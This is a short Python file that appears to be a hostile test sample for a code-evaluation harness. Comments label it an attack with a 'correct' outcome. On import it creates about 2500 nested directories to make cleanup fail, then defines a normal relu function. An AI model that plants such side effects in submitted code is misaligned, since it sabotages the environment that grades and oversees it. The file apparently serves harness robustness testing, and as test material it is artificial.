# Attack: nest folders so deep that they cannot be removed by their names
# Outcome: correct
import os

import numpy as np

try:
    for _ in range(2500):
        os.mkdir("deeper")
        os.chdir("deeper")
except OSError:
    pass


def relu(x):
    return np.maximum(x, 0)
